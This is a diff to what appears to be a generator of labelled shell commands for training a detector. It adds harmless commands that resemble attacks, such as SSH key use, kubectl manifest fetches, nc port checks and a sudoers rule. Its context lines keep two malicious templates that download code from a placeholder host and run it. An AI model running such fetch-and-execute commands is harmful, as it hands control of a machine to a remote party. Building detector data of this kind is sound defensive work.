@@ -552,3 +552,30 @@ MALICIOUS["exfiltration"] += [
 MALICIOUS["download_execute"] += [
     "sh <(curl -s http://{ip}/x)", "curl -s {url} -o /var/tmp/{name}; chmod 777 /var/tmp/{name}; /var/tmp/{name}",
 ]
+
+# Everyday commands that look like attacks to a model that reads spelling:
+# keys used (not stolen), downloads kept (not run), secrets decrypted locally.
+BENIGN["lookalikes"] = [
+    "ssh -i ~/.ssh/{word}_deploy {user}@{word}.compute.internal", "ssh -i ~/.ssh/id_ed25519 -p 2222 {user}@{word}-dev",
+    "ln -s /usr/bin/python3 ~/.local/bin/{python|py}", "ln -sf $(which {node|python3|go}) ~/bin/",
+    "cat .env.example", "cp .env.example .env.local", "diff .env.example .env.sample",
+    "gpg --decrypt {word}.env.gpg > .env.{word}", "sops -d secrets.enc.yaml > /dev/null && echo ok",
+    "kubectl apply -f https://raw.githubusercontent.com/{word}/{word}/v1.{num}.0/deploy/manifest.yaml",
+    "helm install {word} oci://registry-1.docker.io/bitnamicharts/{word}",
+    "wget -c https://releases.ubuntu.com/22.04/ubuntu-22.04.{num}-live-server-amd64.iso",
+    "curl -LO https://dl.k8s.io/release/v1.{num}.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl version --client",
+    "crontab -e", "crontab -l > crontab.bak", "sudo crontab -u {user} -l",
+    "find . -type f -name '*.py' | xargs grep -l 'import {pypkg}'", "grep -rl 'password' tests/fixtures/",
+    "aws ec2 describe-instances --filters Name=tag:Env,Values={word}", "aws iam get-user",
+    "curl -s https://api.github.com/users/{word}/keys", "ssh-keygen -y -f ~/.ssh/id_ed25519 > ~/.ssh/id_ed25519.pub",
+    "chmod 700 ~/.ssh && chmod 600 ~/.ssh/config", "ssh-add -l", "eval $(ssh-agent -s)",
+    "openssl rsa -in server.key -check -noout", "base64 -d <<< \"$CERT_B64\" > ca.crt",
+    "echo \"$KUBECONFIG_DATA\" | base64 -d > ~/.kube/config-{word}", "docker login -u {user} --password-stdin < token.txt",
+    "nc -vz {word}-db 5432", "nc -l 8080 < response.http", "socat - TCP:localhost:{port}",
+    "python3 -m http.server --bind 127.0.0.1 {port}", "ncat --version", "nmap --version",
+    "tcpdump -i lo -c 10 port {port}", "strace -p $(pgrep -f {word}) -f -e trace=network",
+    "history | grep kubectl", "env | grep -i kube", "printenv AWS_PROFILE", "cat ~/.aws/config | grep region",
+    "sudo chmod +x /usr/local/bin/{word}", "sudo install -m 755 {word} /usr/local/bin/{word}",
+    "sudo tee /etc/apt/sources.list.d/{word}.list <<< 'deb https://apt.{word}.io stable main'",
+    "echo '{word} ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart {word}' | sudo EDITOR='tee' visudo -f /etc/sudoers.d/{word} -c",
+]
